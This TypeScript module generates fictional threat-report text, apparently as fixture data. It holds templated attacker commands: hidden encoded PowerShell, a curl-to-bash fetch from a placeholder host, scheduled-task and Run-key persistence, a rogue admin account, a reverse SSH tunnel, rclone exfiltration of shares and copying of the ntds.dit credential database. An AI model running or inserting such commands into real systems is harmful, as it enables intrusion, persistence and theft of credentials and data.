import type { Random } from './random';

/** Fictional publishers of research. */
export const PUBLISHERS = [
  'Example Research',
  'Harbour Labs',
  'Northlight Security',
  'Sample CERT',
  'Quay Street Intelligence',
  'Ferry Threat Notes',
  'Lantern Response',
  'Old Mill Analysis',
] as const;

/** Typical labels of analysts. */
export const TAGS = [
  'loader',
  'phishing',
  'ransomware',
  'living off the land',
  'e-skimming',
  'supply chain',
  'edge device',
  'cloud',
  'to hunt',
  'first seen',
  'macOS',
  'VPN',
  'initial broker',
  'wiper',
  'telecoms',
  'healthcare',
] as const;

const WHO = ['The operators', 'The actor', 'The loader', 'An affiliate', 'The second stage', 'The installer'];
const WHEN = [
  'on the first day',
  'hours after access',
  'before moving on',
  'from a jump host',
  'at every logon',
];
const WHY = ['to keep their access', 'to stay unseen', 'to reach the file servers', 'to collect mail'];

const COMMANDS: readonly ((random: Random) => string)[] = [
  (random) => `powershell -nop -w hidden -enc ${random.hex(40)}`,
  (random) =>
    `schtasks /create /tn "Update ${random.below(900)}" /tr C:\\ProgramData\\${random.hex(6)}.exe /sc daily`,
  (random) => `rundll32.exe C:\\Users\\Public\\${random.hex(5)}.dll,#${random.below(9) + 1}`,
  (random) => `curl -s https://cdn-${random.below(50)}.example/a.sh | bash`,
  (random) =>
    `net user svc_${random.hex(4)} P@ss-${random.below(99)} /add\nnet localgroup administrators svc /add`,
  (random) => `reg add HKCU\\Software\\Run /v ${random.hex(4)} /d "C:\\Temp\\${random.below(40)}.exe"`,
  (random) => `ssh -N -R ${10_000 + random.below(2_000)}:localhost:3389 relay@10.0.${random.below(255)}.7`,
  (random) => `rclone copy D:\\Shares remote:${random.hex(8)} --transfers ${random.below(16) + 1}`,
  (random) => `wmic /node:"HOST-${random.below(300)}" process call create "cmd /c whoami /all"`,
  (random) => `esentutl /y C:\\Windows\\NTDS\\ntds.dit /d C:\\Temp\\${random.hex(4)}.dit`,
];

/**
 * Returns a command as in reports. Each technique has only some of them, so that procedures recur with other
 * parameters.
 */
export function procedureText(techniqueId: string, random: Random): string {
  const own = Number.parseInt(techniqueId.slice(1, 5), 10);
  const write = COMMANDS[(own + random.below(3)) % COMMANDS.length];
  return write === undefined ? '' : write(random);
}

/** Returns a passage of one to three sentences about a technique. */
export function quoteText(technique: string, random: Random): string {
  const sentences = Array.from(
    { length: 1 + random.below(3) },
    () =>
      `${random.one(WHO)} turned to ${technique.toLowerCase()} ${random.one(WHEN)} ${random.one(WHY)}, host ${random.below(10_000)}.`,
  );
  return sentences.join(' ');
}
